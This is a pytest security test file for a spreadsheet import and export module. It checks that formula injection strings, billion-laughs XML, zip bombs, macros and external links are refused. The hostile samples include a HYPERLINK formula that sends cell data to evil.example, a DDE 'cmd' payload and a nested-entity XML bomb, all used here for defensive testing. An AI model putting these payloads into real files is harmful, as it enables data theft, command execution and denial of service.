"""Files from outside cannot hurt: user text never becomes a formula, and hostile .xlsx files
(XML bombs, zip bombs, oversized, macros, external links, huge sheets) are refused with one
clear message before they cost anything."""

from __future__ import annotations

import builtins
import io
import re
import zipfile
from dataclasses import replace

import openpyxl
import pytest
from defusedxml import DTDForbidden

from meshdesk.core.commands import AddCriterion, AddTool, SetMetadata, SetNote
from meshdesk.core.errors import DataError, InputError
from meshdesk.core.facts import Source
from meshdesk.core.workbook import CellNote, Criterion, Tool
from meshdesk.io import xlsx_guards, xlsx_import
from meshdesk.io.xlsx_export import build_xlsx_bytes, export_xlsx
from meshdesk.io.xlsx_import import import_xlsx
from tests.io.test_xlsx_export import make_recommendation

# Everything a spreadsheet could take for a formula (OWASP CSV injection, CWE-1236).
INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
]


@pytest.fixture
def hostile(workbook):
    """A workbook whose every user-typed text is a formula attempt. (Names and sources are one
    line, so the attempts starting with a tab or a line break go into note texts only.)"""
    for i, text in enumerate(INJECTIONS):
        name = text if text == text.strip() else f"={i}"
        AddTool(Tool(f"evil-{i}", name), scores=(("core", 5.0),)).apply(workbook)
        source = text if text == text.strip() else f"@{i}"  # a source is one line
        SetNote(f"evil-{i}", "core", CellNote(text, source, "")).apply(workbook)
    AddCriterion(Criterion("evil-criterion", "=SUM(9,9)"), weight=5).apply(workbook)
    SetMetadata(workbook.with_metadata(title="=TITLE()", author="@author")).apply(workbook)
    sources = dict(workbook.catalogue.sources)
    sources["X1"] = Source("X1", "=SOURCE()", "-http://evil.example")
    workbook.catalogue = replace(workbook.catalogue, sources=sources)
    return workbook


def hostile_recommendation():
    rec = make_recommendation()
    return replace(
        rec,
        answers={"organization": "=ANSWER()", "priorities": ("+p1", "@p2")},
        segment_reason="-reason",
        defaulted=(),
    )


def formulas_in(data: bytes) -> dict[str, list[str]]:
    """Every <f> element of every sheet, by part name."""
    found = {}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                found[name] = re.findall(r"<f[ >][^<]*</f>", archive.read(name).decode())
    return found


def test_user_text_is_written_as_quote_prefixed_text_never_as_a_formula(hostile):
    data = build_xlsx_bytes(hostile, recommendation=hostile_recommendation())
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = {
        *INJECTIONS,
        "=SUM(9,9)",
        "=TITLE()",
        "@author",
        "=SOURCE()",
        "-http://evil.example",
        "=ANSWER()",
        "+p1, @p2",
    }
    seen = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in texts:
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    assert cell.quotePrefix, (ws.title, cell.coordinate)
                    seen.add(cell.value)
    assert seen == texts  # "+p1, @p2" is one answer cell
    # the only formulas are MeshDesk's: a total and a rank per tool, a share per criterion,
    # and on Ranking eight per listed tool, none of which holds any text but MeshDesk's own
    formulas = formulas_in(data)
    assert len(formulas["xl/worksheets/sheet1.xml"]) == 2 * len(hostile.tools)
    assert len(formulas["xl/worksheets/sheet2.xml"]) == len(hostile.criteria)
    ranking = formulas["xl/worksheets/sheet3.xml"]
    assert len(ranking) == 8 * len(hostile.tools)
    assert not any(text in formula for formula in ranking for text in texts)
    others = set(formulas) - {f"xl/worksheets/sheet{i}.xml" for i in (1, 2, 3)}
    assert len(others) == 4 and all(formulas[name] == [] for name in others)
    for formula in formulas["xl/worksheets/sheet1.xml"]:
        assert re.fullmatch(r'<f( t="array" ref="[A-Z]+\d+")?>IF\([^<]*</f>', formula)


def test_hostile_text_round_trips_unchanged(hostile, tmp_path):
    path = tmp_path / "hostile.xlsx"
    export_xlsx(hostile, path)
    assert import_xlsx(path, base=hostile).equals(hostile)


def test_defusedxml_is_in_effect_for_openpyxl():
    """Nothing in MeshDesk parses a file from outside with openpyxl, but anything that ever
    does must not run without defusedxml (tech notes 1.1)."""
    assert openpyxl.DEFUSEDXML is True


# --- crafted archives -----------------------------------------------------------------------
def rebuild(source, target, *, replace_parts=None, add_parts=None, method=zipfile.ZIP_DEFLATED):
    """A copy of an .xlsx with some parts replaced or added."""
    replace_parts, add_parts = replace_parts or {}, add_parts or {}
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", method) as new:
        for info in old.infolist():
            data = replace_parts.get(info.filename, old.read(info.filename))
            new.writestr(info.filename, data)
        for name, data in add_parts.items():
            new.writestr(name, data)
    return target


@pytest.fixture
def exported(workbook, tmp_path):
    path = tmp_path / "export.xlsx"
    export_xlsx(workbook, path)
    return path


LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)).replace(
    "&lol0;", "lol"
)
BILLION_LAUGHS_SHEET = (
    f'<?xml version="1.0"?><!DOCTYPE worksheet [{LAUGHS}]>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)


@pytest.mark.parametrize(
    "part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/sharedStrings.xml"]
)
def test_billion_laughs_is_refused_quickly(exported, tmp_path, part, monkeypatch):
    payload = BILLION_LAUGHS_SHEET
    root = "worksheet"
    if part != "xl/worksheets/sheet1.xml":
        root = part.rsplit("/", 1)[1].split(".")[0]
        root = root if root != "sharedStrings" else "sst"
        payload = payload.replace("worksheet", root)
    target = tmp_path / "laughs.xlsx"
    if part == "xl/sharedStrings.xml":
        rebuild(exported, target, add_parts={part: payload})
    else:
        rebuild(exported, target, replace_parts={part: payload})

    # Quick, shown by where the parse stops rather than by a clock: the hardened parser
    # refuses the DOCTYPE as soon as expat has read its name, at the '[' that opens its
    # internal subset (byte 35-41), before the first <!ENTITY is read. No entity is ever
    # declared, so none can be expanded: the parser does the same few bytes of work for a
    # billion laughs as for one.
    doctypes: list[tuple[str, int]] = []
    entity_declarations: list[str] = []
    hardened = xlsx_guards.hardened_parser

    def spied_parser():
        parser = hardened()
        refuse_doctype, refuse_entity = parser.StartDoctypeDeclHandler, parser.EntityDeclHandler

        def at_doctype(name, *rest):
            doctypes.append((name, parser.CurrentByteIndex))
            refuse_doctype(name, *rest)

        def at_entity(name, *rest):
            entity_declarations.append(name)
            refuse_entity(name, *rest)

        parser.StartDoctypeDeclHandler = at_doctype
        parser.EntityDeclHandler = at_entity
        return parser

    monkeypatch.setattr(xlsx_guards, "hardened_parser", spied_parser)
    with pytest.raises(DataError, match="billion laughs") as info:
        import_xlsx(target)
    assert str(info.value).startswith(f"{target}: contains an XML document type or entity")
    refusal = info.value.__context__  # what the parser raised, behind the one-sentence error
    assert isinstance(refusal, DTDForbidden) and refusal.name == root
    assert doctypes == [(root, payload.index("["))]
    assert payload.index("[") < payload.index("<!ENTITY")
    assert entity_declarations == []


def test_zip_bomb_is_refused_before_parsing(exported, tmp_path, monkeypatch):
    def never(*_args):
        raise AssertionError("the XML parser ran")

    monkeypatch.setattr(xlsx_guards, "hardened_parser", never)
    padding = b" " * (20 * 1024 * 1024)  # 20 MiB that deflate to about 20 KiB
    bomb = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    target = rebuild(
        exported,
        tmp_path / "bomb.xlsx",
        replace_parts={"xl/worksheets/sheet1.xml": bomb + padding + b"</worksheet>"},
    )
    with pytest.raises(DataError) as info:
        import_xlsx(target)
    message = str(info.value)
    assert "the part xl/worksheets/sheet1.xml would unpack from" in message
    assert "how a zip bomb looks; refused before reading it" in message


def test_oversized_file_is_refused(exported, monkeypatch):
    monkeypatch.setattr(xlsx_guards, "XLSX_MAX_BYTES", 1000)
    with pytest.raises(DataError, match=r"larger than the 1000 bytes a spreadsheet may be"):
        import_xlsx(exported)


def test_too_much_unpacked_data_or_too_many_parts_is_refused(exported, monkeypatch):
    monkeypatch.setattr(xlsx_guards, "XLSX_MAX_UNPACKED", 10_000)
    with pytest.raises(
        DataError, match=r"would unpack to \d+ KiB, more than the 10 KiB MeshDesk allows a workbook"
    ):
        import_xlsx(exported)
    monkeypatch.undo()
    monkeypatch.setattr(xlsx_guards, "XLSX_MAX_MEMBERS", 5)
    with pytest.raises(
        DataError, match=r"has \d+ parts; a workbook MeshDesk imports has at most 5"
    ):
        import_xlsx(exported)


def test_files_that_are_not_xlsx_are_refused(tmp_path):
    csv_in_disguise = tmp_path / "table.xlsx"
    csv_in_disguise.write_text("Tool,Core\nIstio,9\n", encoding="utf-8")
    with pytest.raises(
        DataError, match=r"table\.xlsx: is not an \.xlsx workbook \(it is not a zip"
    ):
        import_xlsx(csv_in_disguise)
    other_zip = tmp_path / "photos.xlsx"
    with zipfile.ZipFile(other_zip, "w") as archive:
        archive.writestr("photo.txt", "not a workbook")
    with pytest.raises(DataError, match=r"is a zip archive but not an \.xlsx workbook"):
        import_xlsx(other_zip)
    with pytest.raises(InputError, match="no such file"):
        import_xlsx(tmp_path / "missing.xlsx")


def test_unusual_compression_is_refused(exported, tmp_path):
    target = rebuild(exported, tmp_path / "bz.xlsx", method=zipfile.ZIP_BZIP2)
    with pytest.raises(DataError, match=r"uses a compression method \(number 12\) that Excel"):
        import_xlsx(target)


def test_macros_are_refused(exported, tmp_path):
    with pytest.raises(DataError, match=r"macro-enabled workbook; MeshDesk does not import macros"):
        import_xlsx(exported.rename(tmp_path / "scores.xlsm"))
    renamed = rebuild(
        tmp_path / "scores.xlsm",
        tmp_path / "renamed.xlsx",
        add_parts={"xl/vbaProject.bin": b"\0" * 64},
    )
    with pytest.raises(DataError, match=r"contains macros \(xl/vbaProject\.bin\)"):
        import_xlsx(renamed)


def with_external_link(source, target, linked):
    """The export plus an external link to another workbook, as Excel records one."""
    rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(source) as archive:
        workbook_xml = archive.read("xl/workbook.xml").decode()
        workbook_rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    workbook_xml = workbook_xml.replace(
        "<calcPr",
        '<externalReferences><externalReference r:id="rId99"/></externalReferences><calcPr',
    )
    workbook_rels = workbook_rels.replace(
        "</Relationships>",
        f'<Relationship Id="rId99" Type="{rels}/externalLink" '
        'Target="externalLinks/externalLink1.xml"/></Relationships>',
    )
    return rebuild(
        source,
        target,
        replace_parts={
            "xl/workbook.xml": workbook_xml,
            "xl/_rels/workbook.xml.rels": workbook_rels,
        },
        add_parts={
            "xl/externalLinks/externalLink1.xml": (
                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                f'xmlns:r="{rels}"><externalBook r:id="rId1"/></externalLink>'
            ),
            "xl/externalLinks/_rels/externalLink1.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rId1" Type="{rels}/externalLinkPath" '
                f'Target="{linked.as_uri()}" TargetMode="External"/></Relationships>'
            ),
        },
    )


def test_external_links_are_never_followed(workbook, exported, tmp_path, monkeypatch):
    linked = tmp_path / "elsewhere.xlsx"
    linked.write_bytes(exported.read_bytes())
    target = with_external_link(exported, tmp_path / "linked.xlsx", linked)
    opened = []
    real_open = io.open

    def spying_open(file, *args, **kwargs):
        opened.append(str(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(io, "open", spying_open)
    monkeypatch.setattr(builtins, "open", spying_open)
    back = import_xlsx(target, base=workbook)
    monkeypatch.undo()
    assert back.equals(workbook)
    assert str(target) in opened
    assert str(linked) not in opened


def test_a_cell_using_an_external_link_is_refused_as_a_formula(exported, tmp_path):
    book = openpyxl.load_workbook(exported)
    book["Scores"]["D5"] = "=[1]Scores!D5"
    book.save(tmp_path / "uses-link.xlsx")
    target = with_external_link(tmp_path / "uses-link.xlsx", tmp_path / "linked.xlsx", exported)
    with pytest.raises(DataError, match=r"Scores!D5: is a formula \(=\[1\]Scores!D5\)"):
        import_xlsx(target)


def test_too_many_rows_or_columns_are_refused(exported, monkeypatch):
    monkeypatch.setattr(xlsx_import, "MAX_TABLE_ROWS", 5)
    with pytest.raises(DataError, match=r"the sheet 'Scores' has more than 6 rows"):
        import_xlsx(exported)
    monkeypatch.undo()
    monkeypatch.setattr(xlsx_import, "MAX_TABLE_COLUMNS", 3)
    with pytest.raises(DataError, match=r"the sheet 'Scores' has more than 7 columns"):
        import_xlsx(exported)


def test_a_cell_far_out_is_refused_while_parsing(exported, tmp_path):
    with zipfile.ZipFile(exported) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    far = sheet.replace("</row>", '<c r="XFD1"><v>1</v></c></row>', 1)
    deep = sheet.replace(
        "</sheetData>", '<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'
    )
    for name, text in (("far", far), ("deep", deep)):
        target = rebuild(
            exported, tmp_path / f"{name}.xlsx", replace_parts={"xl/worksheets/sheet1.xml": text}
        )
        with pytest.raises(
            DataError, match=r"the sheet 'Scores' has more than [\d,]+ (columns|rows)"
        ):
            import_xlsx(target)


def test_damaged_xml_is_one_sentence(exported, tmp_path):
    target = rebuild(
        exported,
        tmp_path / "cut.xlsx",
        replace_parts={"xl/worksheets/sheet1.xml": "<worksheet><sheetData><row"},
    )
    with pytest.raises(
        DataError, match=r"cut\.xlsx: is not a readable \.xlsx workbook \(damaged XML"
    ):
        import_xlsx(target)


def test_damaged_archive_is_one_sentence(exported, tmp_path):
    data = bytearray(exported.read_bytes())
    with zipfile.ZipFile(exported) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    for k in range(start + 100, start + 400):  # garble the deflated sheet data
        data[k] ^= 0x5A
    damaged = tmp_path / "damaged.xlsx"
    damaged.write_bytes(bytes(data))
    with pytest.raises(DataError, match=r"damaged\.xlsx: is not a readable \.xlsx workbook \("):
        import_xlsx(damaged)
